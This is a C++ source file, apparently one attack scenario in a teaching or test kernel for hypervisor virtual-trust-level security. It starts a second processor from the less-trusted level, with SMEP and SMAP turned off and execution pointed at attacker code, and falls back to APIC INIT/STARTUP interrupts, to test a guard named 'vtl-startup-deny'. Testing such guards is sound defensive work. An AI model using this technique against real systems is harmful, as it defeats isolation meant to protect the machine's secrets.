// SPDX-License-Identifier: MIT
// Row 12: VTL0 starts another processor with the attacker's code, before VTL1 is on it.
//
// What VTL1 has locked on the first processor is not locked on a fresh one: its control registers
// are whatever its starter says.  [TLFS vsm, virtual processor startup]  Guard: vtl-startup-deny.
// Lesson: 4.
#include "abi/memory_layout.h"
#include "abi/tlfs/hypercall_inputs.h"
#include "kernel/processor_context.h"
#include "kernel/scenes/attacks/attack.h"
#include "kernel/scenes/attacks/hostile_hypercalls.h"
#include "rt/instructions.h"
#include "x86/apic.h"
#include "x86/control_registers.h"

extern "C" {
extern const std::uint8_t attackers_processor[]; // attackers_processor.S
extern volatile std::uint64_t* attackers_processor_target;
}

namespace nt::attacks {
namespace {

using abi::tlfs::InitialVpContext;
using x86::InterruptCommand;

constexpr std::uint32_t second_processor = 1; // also its APIC's number
constexpr std::uint8_t real_mode_page = 8;

/// As this processor is, but for what VTL1 would not let it change: SMEP and SMAP off.
InitialVpContext attackers_context(std::uint64_t stack_top) {
    InitialVpContext context =
        context_like_own(reinterpret_cast<std::uint64_t>(attackers_processor), stack_top);
    context.cr4 = x86::Cr4::from(context.cr4)
                      .with(x86::Cr4::supervisor_execution_prevention, false)
                      .with(x86::Cr4::supervisor_access_prevention, false)
                      .raw;
    return context;
}

/// By the local APIC: the low half of the command sends it.  [APM2 16.5]
void command_second_processor(InterruptCommand::Delivery delivery) {
    const auto command = InterruptCommand::to(second_processor, delivery, real_mode_page);
    const auto write = [](x86::ApicRegister name, std::uint64_t value) {
        const std::uint64_t address =
            abi::direct_map_base + x86::apic_default_base + static_cast<std::uint32_t>(name);
        *reinterpret_cast<volatile std::uint32_t*>(address) = static_cast<std::uint32_t>(value);
    };
    write(x86::ApicRegister::InterruptCommandHigh, command.raw >> 32);
    write(x86::ApicRegister::InterruptCommandLow, command.raw);
}

void wait_for_loot() {
    constexpr std::uint64_t patience = 50'000'000;
    for (std::uint64_t turn = 0; turn < patience && loot()[0] == 0; ++turn) {
        rt::pause();
    }
}

} // namespace

void start_processor(Stage& stage) {
    attackers_processor_target = loot();
    const std::uint64_t stack_top = direct_address(own_page(stage)) + x86::page_bytes;
    const InitialVpContext context = attackers_context(stack_top);

    begin(second_processor);
    if (start_virtual_processor(second_processor, context) == HvStatus::Success) {
        wait_for_loot();
        return;
    }
    // Then as before there was a hypervisor: a processor that is told to starts in real mode.
    attempt([] { command_second_processor(InterruptCommand::Delivery::Init); });
    attempt([] { command_second_processor(InterruptCommand::Delivery::Startup); });
}

} // namespace nt::attacks
